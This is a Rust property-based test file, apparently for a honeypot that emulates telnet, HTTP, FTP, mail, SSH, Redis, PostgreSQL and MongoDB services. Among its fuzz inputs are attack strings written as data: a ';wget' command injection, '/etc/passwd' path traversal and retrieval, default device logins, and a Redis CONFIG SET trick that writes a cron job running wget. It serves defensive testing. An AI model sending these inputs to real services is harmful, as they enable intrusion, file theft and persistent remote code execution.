//! What holds for any bytes in any pieces: no panic, bounded effects, the same events.

use super::transcript::{Stage, opening};
use crate::emulator;
use proptest::prelude::*;
use ukai_model::Duration;

/// What a peer did, as far as it does not depend on time.
fn outcome(
    name: &str,
    persona: &str,
    port: u16,
    pieces: &[&[u8]],
) -> (Vec<String>, Vec<u8>, usize) {
    let emulator = emulator(name).expect("an emulator");
    let mut stage = Stage::open(&*emulator, opening(persona, "198.51.100.7:4000", port));
    for piece in pieces {
        stage.bytes(piece);
    }
    stage.wait(Duration::from_secs(20));
    stage.eof();
    stage.wait(Duration::from_secs(20));
    stage.close();
    (stage.noted, stage.sent, stage.count)
}

fn pieces<'a>(bytes: &'a [u8], cuts: &[usize]) -> Vec<&'a [u8]> {
    let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut % (bytes.len() + 1)).collect();
    cuts.sort_unstable();
    let mut from = 0;
    let mut all = Vec::new();
    for cut in cuts {
        all.push(&bytes[from..cut]);
        from = cut;
    }
    all.push(&bytes[from..]);
    all
}

/// `ping`, `find`, `insert` and an old `isMaster`, as drivers send them.
const MONGODB_PING: &[u8] =
    b"\x33\0\0\0\x01\0\0\0\0\0\0\0\xdd\x07\0\0\0\0\0\0\0\x1e\0\0\0\x10ping\0\
    \x01\0\0\0\x02$db\0\x06\0\0\0admin\0\0";
const MONGODB_FIND: &[u8] =
    b"\x33\0\0\0\x02\0\0\0\0\0\0\0\xdd\x07\0\0\0\0\0\0\0\x1e\0\0\0\x02find\0\
    \x02\0\0\0a\0\x02$db\0\x05\0\0\0shop\0\0";
const MONGODB_INSERT: &[u8] =
    b"\x47\0\0\0\x03\0\0\0\0\0\0\0\xdd\x07\0\0\0\0\0\0\0\x1f\0\0\0\x02insert\0\
    \x02\0\0\0a\0\x02$db\0\x05\0\0\0shop\0\0\x01\x12\0\0\0documents\0\x05\0\0\0\0";
const MONGODB_OLD: &[u8] = b"\x3f\0\0\0\x04\0\0\0\0\0\0\0\xd4\x07\0\0\0\0\0\0admin.$cmd\0\0\0\0\0\
    \xff\xff\xff\xff\x18\0\0\0\x10isMaster\0\x01\0\0\0\0";

fn hostile() -> impl Strategy<Value = Vec<u8>> {
    let words: Vec<&'static [u8]> = vec![
        b"root\r\n",
        b"SSH-2.0-x\r\n",
        b"\0\0\0\x0c\x05\x15",
        b"xmhdipc\r\n",
        b"\r\0",
        b"\xff\xfd\x01",
        b"\xff\xfb\x1f",
        b"\xff\xfa\x18\0xterm\xff\xf0",
        b"\xff\xfa",
        b"\xff\xf4",
        b"\xff\xff",
        b"sh\r\n",
        b"enable\n",
        b"\x7f",
        b"\x15",
        b"\x04",
        b"USER test\r\nPASS test\r\n",
        b"USER ",
        b"PASS x\r\n",
        b"EPSV\r\n",
        b"PORT 198,51,100,7,20,10\r\n",
        b"LIST\r\nRETR /etc/passwd\r\n",
        b"STOR /tmp/x\r\nMKD /tmp/y\r\nRNFR /tmp/y\r\nRNTO /tmp/z\r\n",
        b"EHLO x\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n",
        b".\r\n",
        b"BDAT 7 LAST\r\n",
        b"AUTH PLAIN AHRlc3QAdGVzdA==\r\n",
        b"AUTH LOGIN\r\n",
        b"dGVzdA==\r\n",
        b"AUTH CRAM-MD5\r\n",
        b"*\r\n",
        b"a LOGIN test test\r\n",
        b"a LOGIN {4}\r\n",
        b"b SELECT INBOX\r\nc IDLE\r\n",
        b"d APPEND INBOX {5+}\r\n",
        b"RETR 1\r\nTOP 1 1\r\n",
        b"GET / HTTP/1.1\r\n",
        b"POST /shell?id HTTP/1.1\r\n",
        b"Host: x\r\n",
        b"Content-Length: 5\r\n",
        b"Transfer-Encoding: chunked\r\n",
        b"5\r\nhello\r\n",
        b"0\r\n\r\n",
        b"\r\n\r\n",
        b"Expect: 100-continue\r\n",
        b"Authorization: Basic YTpi\r\n",
        b"/../../etc/passwd",
        b";wget http://x/y",
        b"*1\r\n$4\r\nPING\r\n",
        b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
        b"*2\r\n$3\r\nGET\r\n",
        b"$1\r\na\r\n",
        b"*-1\r\n",
        b"CONFIG SET dir /var/spool/cron/crontabs dbfilename root\r\n",
        b"SET x \"\\n* * * * * wget http://x/y\\n\"\r\n",
        b"SAVE\r\n",
        b"MULTI\r\nLPUSH l a b\r\nHSET h a b\r\nEXEC\r\n",
        b"KEYS *\r\nLRANGE l 0 -1\r\nSETRANGE s 5000 x\r\n",
        b"SLAVEOF 192.0.2.1 6379\r\nHELLO 3\r\nSUBSCRIBE a\r\n",
        b"EVAL \"return {1,2}\" 0\r\nINFO server\r\n",
        b"\n",
        b" ",
        b"\0\0\0\x08\x04\xd2\x16\x2f",
        b"\0\0\0\x08\x04\xd2\x16\x30",
        b"\0\0\0\x17\0\x03\0\0user\0postgres\0\0",
        b"p\0\0\0\x21SCRAM-SHA-256\0\0\0\0\x0bn,,n=,r=abc",
        b"Q\0\0\0\x0dselect 1\0",
        MONGODB_PING,
        MONGODB_FIND,
        MONGODB_INSERT,
        MONGODB_OLD,
    ];
    prop::collection::vec(
        prop_oneof![
            3 => prop::sample::select(words).prop_map(<[u8]>::to_vec),
            1 => prop::collection::vec(any::<u8>(), 0..40),
        ],
        0..30,
    )
    .prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn pieces_do_not_matter_and_nothing_grows_without_bound(
        bytes in hostile(),
        cuts in prop::collection::vec(any::<usize>(), 0..12),
        which in 0_usize..22,
    ) {
        let (name, persona, port) = [
            ("telnet", "router-mips", 23), ("telnet", "camera-arm", 23), ("telnet", "server-debian", 23),
            ("http", "router-mips", 80), ("http", "camera-arm", 80), ("http", "server-debian", 80),
            ("raw", "router-mips", 9), ("detect", "camera-arm", 9000),
            ("ftp", "server-debian", 21), ("ftp", "camera-arm", 21), ("smtp", "server-debian", 25),
            ("pop3", "server-debian", 110), ("imap", "server-debian", 143),
            ("detect", "server-debian", 9000), ("detect", "server-debian", 25),
            ("ssh", "server-debian", 22), ("ssh", "router-mips", 22), ("mysql", "server-debian", 3306),
            ("redis", "server-debian", 6379), ("redis", "server-debian", 6379),
            ("postgresql", "server-debian", 5432), ("mongodb", "server-debian", 27_017),
        ][which];
        let whole = outcome(name, persona, port, &[&bytes]);
        let cut = outcome(name, persona, port, &pieces(&bytes, &cuts));
        // A terminal drops what was typed ahead of a prompt: there, it matters what comes
        // together.
        let terminal = name == "telnet" || whole.0.iter().any(|event| event.contains("telnet"));
        if !terminal {
            prop_assert_eq!(&whole.0, &cut.0);
            prop_assert_eq!(&whole.1, &cut.1);
        }
        prop_assert!(cut.2 < 200 + 40 * bytes.len(), "{} effects of {} bytes", cut.2, bytes.len());
    }
}

#[test]
fn option_floods_are_answered_only_so_often() {
    for flood in [
        &b"\xff\xfd\x18"[..],
        b"\xff\xfa\x18",
        b"\xff\xfb\xfb",
        b"\xff\xfa\x1f\0\x01\0\x01\xff\xf0",
    ] {
        let bytes = flood.repeat(100_000);
        let (events, sent, count) = outcome("telnet", "camera-arm", 23, &[&bytes]);
        assert!(sent.len() < 4_096 && count < 2_000, "{} bytes, {count} effects", sent.len());
        assert!(events.len() < 300, "{}", events.len());
    }
}
